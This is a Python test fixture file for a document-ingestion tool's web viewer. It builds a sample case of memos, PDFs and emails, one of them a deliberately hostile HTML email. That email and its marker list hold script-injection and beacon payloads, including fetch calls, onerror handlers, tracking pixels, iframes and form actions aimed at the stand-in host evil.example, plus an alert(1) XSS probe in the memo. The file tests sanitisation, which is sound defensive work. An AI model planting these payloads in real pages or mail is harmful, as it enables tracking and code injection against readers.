"""One real case for all web tests: files written here plus a few from the public corpus,
ingested once per session by the real pipeline."""

from __future__ import annotations

import base64
import io
from dataclasses import dataclass
from pathlib import Path

import pytest
from PIL import Image
from starlette.testclient import TestClient

from bench.ceiling import text_pdf
from nutgraf import Case, ingest, open_case
from nutgraf.ingest.pipeline import IngestSettings
from nutgraf.web import create_app
from tests.conftest import PUBLIC_CORPUS

CORPUS_FILES = (
    "aleph/contrib/testdata/Fwd_Re_Your_Campaign.eml",
    "ingest-file/email_multipart_mixed.eml",
    "py-pdf-sample-files/004-pdflatex-4-pages/pdflatex-4-pages.pdf",
    "py-pdf-sample-files/005-libreoffice-writer-password/libreoffice-writer-password.pdf",
)
BOARD_MINUTES = [  # a text-layer PDF whose facts the page viewer draws
    ["Board minutes, 5 March 2024.", "The board approved a transfer of USD 2,400,000."],
    ["Second page: nothing of note."],
    ["Annex: invoice for EUR 125,000.00 paid on 12 April 2024."],
]
MEMO = """Memo from Marchetti Holdings, 12 March 2023.
The payment of €1,250,000 was sent to account FR76 3000 6000 0112 3456 7890 189 on 2023-03-14.
A further USD 40,000 followed in April 2023. Contact: j.doe@example.org.
Markup that must stay text: 5 < 6 && "quoted" <i>not markup</i> <img src=x onerror=alert(1)>
تم تحويل المبلغ إلى الحساب في بيروت
"""
# Everything a hostile mail can try in order to run code or call home when it is shown.
HOSTILE_HTML = """<html><head>
<meta http-equiv="refresh" content="0; url=http://evil.example/refresh">
<style>body { background: url(http://evil.example/css.png); }</style>
<link rel="stylesheet" href="http://evil.example/sheet.css">
<script>fetch("http://evil.example/script"); top.document.title = "PWNED";</script>
</head><body>
<p style="background-image: url('http://evil.example/inline.png')">Dear Paolo, the transfer of
EUR 75,000 to the Lugano account is done.</p>
<img src="http://evil.example/pixel.gif" width="1" height="1">
<img src="x" onerror="fetch('http://evil.example/onerror'); top.document.title='PWNED'">
<img src="cid:logo@example" alt="logo">
<a href="http://evil.example/click">click</a>
<iframe src="http://evil.example/frame"></iframe>
<object data="http://evil.example/object"></object>
<svg><image href="http://evil.example/svg.png"/></svg>
<form action="http://evil.example/form"><input name="x"></form>
</body></html>"""
EVIL_MARKERS = (
    "<script", "onerror", "evil.example", "url(", "http-equiv", "<iframe", "<object",
    "<link", "<meta http", "<form", "<style",
)  # fmt: skip


def _png_bytes(color: tuple[int, int, int]) -> bytes:
    out = io.BytesIO()
    Image.new("RGB", (40, 30), color).save(out, format="PNG")
    return out.getvalue()


def hostile_mail() -> bytes:
    logo = base64.encodebytes(_png_bytes((200, 30, 30))).decode()
    note = base64.encodebytes(b"Wire details: account CH93 0076 2011 6238 5295 7.\n").decode()
    return f"""From: Paolo Marchetti <paolo@marchetti.example>
To: Anna Rossi <anna@rossi.example>
Cc: Board Secretary <board@marchetti.example>
Subject: Lugano transfer
Date: Tue, 14 Mar 2023 10:15:00 +0100
Message-ID: <hostile-1@marchetti.example>
MIME-Version: 1.0
Content-Type: multipart/mixed; boundary="outer"

--outer
Content-Type: multipart/related; boundary="inner"

--inner
Content-Type: text/html; charset=utf-8

{HOSTILE_HTML}
--inner
Content-Type: image/png
Content-ID: <logo@example>
Content-Transfer-Encoding: base64

{logo}
--inner--
--outer
Content-Type: text/plain; name="wire-note.txt"
Content-Disposition: attachment; filename="wire-note.txt"
Content-Transfer-Encoding: base64

{note}
--outer--
""".replace("\n", "\r\n").encode()


def reply_mail() -> bytes:
    return b"""From: Anna Rossi <anna@rossi.example>
To: Paolo Marchetti <paolo@marchetti.example>
Subject: Re: Lugano transfer
Date: Wed, 12 Apr 2023 09:00:00 +0000
Message-ID: <reply-1@rossi.example>
In-Reply-To: <hostile-1@marchetti.example>
Content-Type: text/plain; charset=utf-8

Received. The second tranche of EUR 20,000 goes out in May 2023.
"""


@dataclass
class WebCase:
    case: Case
    folder: Path  # the files written for the case
    ids: dict[str, str]  # file name → document id

    def id_of(self, name: str) -> str:
        if name not in self.ids:
            pytest.skip(f"{name} is not in the test case (corpus file missing?)")
        return self.ids[name]


@pytest.fixture(scope="session")
def web_case(tmp_path_factory: pytest.TempPathFactory):
    folder = tmp_path_factory.mktemp("web-files")
    (folder / "memo.txt").write_text(MEMO, encoding="utf-8")
    (folder / "hostile.eml").write_bytes(hostile_mail())
    (folder / "reply.eml").write_bytes(reply_mail())
    (folder / "hostile.html").write_text(HOSTILE_HTML, encoding="utf-8")
    (folder / "swatch.png").write_bytes(_png_bytes((20, 120, 220)))
    (folder / "board-minutes.pdf").write_bytes(text_pdf(BOARD_MINUTES))
    inputs = [folder]
    inputs += [PUBLIC_CORPUS / name for name in CORPUS_FILES if (PUBLIC_CORPUS / name).is_file()]
    case = open_case(tmp_path_factory.mktemp("web-case") / "case", create=True)
    ingest(case, inputs, IngestSettings(workers=1))
    ids = {doc.path.rsplit("/", 1)[-1]: doc.id for doc in case.store.documents()}
    yield WebCase(case, folder, ids)
    case.close()


@pytest.fixture(scope="session")
def client(web_case: WebCase) -> TestClient:
    # The app accepts only a loopback Host header, as a browser on this machine sends.
    return TestClient(create_app(web_case.case), base_url="http://127.0.0.1")
